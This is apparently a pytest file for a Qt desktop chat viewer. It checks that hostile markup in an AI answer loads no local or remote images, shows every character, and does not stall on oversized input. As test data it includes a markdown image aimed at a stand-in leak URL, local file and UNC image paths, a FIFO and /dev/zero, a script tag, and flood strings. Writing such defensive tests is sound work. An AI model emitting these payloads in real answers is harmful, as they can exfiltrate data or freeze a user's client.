"""What a hostile answer can name is not opened, not fetched, not hidden and not slow."""

import os
import sys
import time
from pathlib import Path

import pytest
from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import QColor, QImage, QTextCursor, QTextDocument

from ice_desk.ui.chat.blocks import split
from ice_desk.ui.chat.document import SafeDocument, TextStyle, blocks, build, fragments, tables, text_style
from ice_desk.ui.chat.tables import looks_numeric
from ice_desk.ui.theme import DARK

WIDTH = 700
OPENED: list[str] = []


def _note_opened(event: str, arguments: tuple[object, ...]) -> None:
    if event == "open":
        OPENED.append(str(arguments[0]))


sys.addaudithook(_note_opened)


@pytest.fixture
def style() -> TextStyle:
    return text_style(DARK)


def shown(text: str, style: TextStyle) -> str:
    """Everything a reader sees of an answer."""
    return "\n".join(build(block, style, WIDTH).toPlainText() for block in split(text))


@pytest.fixture
def picture(tmp_path: Path) -> Path:
    image = QImage(300, 300, QImage.Format.Format_RGB32)
    image.fill(QColor("red"))
    path = tmp_path / "secret.png"
    assert image.save(str(path))
    return path


@pytest.mark.parametrize(
    "form",
    [
        "![alt]({path})",
        "![alt](file://{path})",
        "![alt](<{path}> 'title')",
        "[![alt]({path})](http://a.example)",
        "- ![alt]({path})",
        "| a |\n|---|\n| ![alt]({path}) |",
        "<img src='file://{path}'/>",
        "<b><img src='{path}'/></b>",
        "x <img src={path}>",
        "<link rel=stylesheet href='{path}'>",
        "<table background='{path}'><tr><td>x</td></tr></table>",
    ],
)
def test_a_picture_on_this_machine_is_never_shown(form: str, picture: Path, style: TextStyle) -> None:
    text = form.format(path=picture)
    OPENED.clear()
    height = sum(build(block, style, WIDTH).size().height() for block in split(text))
    assert height < 200
    assert not OPENED
    for block in split(text):
        document = build(block, style, WIDTH)
        assert not any(part.charFormat().isImageFormat() for one in blocks(document) for part in fragments(one))


def test_the_picture_would_be_shown_without_these_measures(picture: Path) -> None:
    bare = QTextDocument()
    bare.setMarkdown(f"![alt]({picture})")
    assert bare.size().height() > 300


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("![chart](http://evil.example/leak?d=1)", "[image not loaded: chart, evil.example]"),
        ("![](//host/share/a.png)", "[image not loaded: image, host]"),
        ("![x](data:image/png;base64,AAAA)", "[image not loaded: x]"),
        ("![x](../up.png)", "[image not loaded: x, a file]"),
        ("![x](\\\\host\\share\\a.png)", "[image not loaded: x"),
        ("![x](http://bücher.example/a)", "[image not loaded: x, xn--bcher-kva.example]"),
    ],
)
def test_words_stand_in_the_place_of_an_image(text: str, words: str, style: TextStyle) -> None:
    assert words in shown(text, style)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs a FIFO")
def test_a_pipe_and_a_device_do_not_block(tmp_path: Path, style: TextStyle) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    began = time.perf_counter()
    shown(f"![]({pipe}) ![](/dev/zero)\n\n<img src='{pipe}'/>", style)
    assert time.perf_counter() - began < 0.5


def test_a_request_for_a_resource_gets_one_pixel(picture: Path) -> None:
    document = SafeDocument()
    image = document.resource(int(QTextDocument.ResourceType.ImageResource.value), QUrl.fromLocalFile(str(picture)))
    assert isinstance(image, QImage)
    assert image.size().toTuple() == (1, 1)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Use List<String> and then **bold**\n\nnext", "Use List<String> and then bold\nnext"),
        ("The <ticker> tag\n\nThe total is $5", "The <ticker> tag\nThe total is $5"),
        ("a<br>b", "a<br>b"),
        ("P/E <b", "P/E <b"),
        ("<think>plan</think> <!-- note -->", "<think>plan</think> <!-- note -->"),
        ("<span style='display:none'>hidden</span>", "<span style='display:none'>hidden</span>"),
        ("[1]: http://vanish.example", "[1]: http://vanish.example"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ],
)
def test_every_character_is_seen(text: str, expected: str, style: TextStyle) -> None:
    assert shown(text, style) == expected


def test_characters_that_would_change_the_structure_are_marked(style: TextStyle) -> None:
    document = build(split("a\ufdd0b\u2029c\ufffcd\x00e\u202ef")[0], style, WIDTH)
    assert document.blockCount() == 1
    assert document.toPlainText() == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf"


NESTED = "".join(f"<table><tr><td>{level}" for level in range(20)) + "</td></tr></table>" * 20


@pytest.mark.parametrize(
    "text",
    [
        NESTED,
        "| a |" + " b |" * 19 + "\n" + "|---" * 20 + "|\n" + ("| cell" * 20 + "|\n") * 2_000,
        "`" * 320_000,
        "<" * 200_000,
        "&lt;" * 300_000,
        "[" * 100_000,
        "x" * 1_000_000,
        "a\n\n" * 200_000,
        "> " * 5_000 + "x",
        "- " * 5_000 + "x",
        "a\u202e" * 100_000,
        "e" + "\u0301" * 50_000,
        "👩\u200d" * 50_000,
        "*a **b " * 20_000,
    ],
    ids=[
        *("nested", "wide", "ticks", "less", "entities", "brackets", "line"),
        *("paragraphs", "quotes", "lists", "bidi", "accents", "emoji", "stars"),
    ],
)
def test_no_flood_takes_long(text: str, style: TextStyle) -> None:
    """The cut of the whole, and what one screen shows of it: 30 blocks."""
    began = time.process_time()
    for block in split(text)[:30]:
        build(block, style, WIDTH).size()
    assert time.process_time() - began < 1.5


def test_a_table_has_a_muted_head_and_numbers_at_the_right(style: TextStyle) -> None:
    text = "| Node | Share |\n|---|---|\n| ABF | 78 % |\n| HBM | ~100 % |"
    document = build(split(text)[0], style, WIDTH)
    (table,) = tables(document)
    assert table.cellAt(0, 0).firstCursorPosition().charFormat().foreground().color() == DARK.muted
    sides = [table.cellAt(1, column).firstCursorPosition().blockFormat().alignment() for column in range(2)]
    assert not sides[0] & Qt.AlignmentFlag.AlignRight
    assert sides[1] & Qt.AlignmentFlag.AlignRight


@pytest.mark.parametrize("text", ["78 %", "~100 %", "9–14 months", "$1,200.50", "-3", "(12)", "18 tok/s", "4.9 GB"])
def test_figures_are_known(text: str) -> None:
    assert looks_numeric(text)


@pytest.mark.parametrize("text", ["two sites", "CoWoS-L", "Q3 was good and so on for long", "", "N/A"])
def test_words_are_no_figures(text: str) -> None:
    assert not looks_numeric(text)


def test_headings_are_larger_and_a_copy_holds_no_markup(style: TextStyle) -> None:
    document = build(split("# Large **x**")[0], style, WIDTH)
    assert fragments(document.begin())[0].charFormat().font().pixelSize() == 18
    document = build(split("![a](http://evil.example/x)")[0], style, WIDTH)
    cursor = QTextCursor(document)
    cursor.select(QTextCursor.SelectionType.Document)
    assert "<img" not in cursor.selection().toHtml()
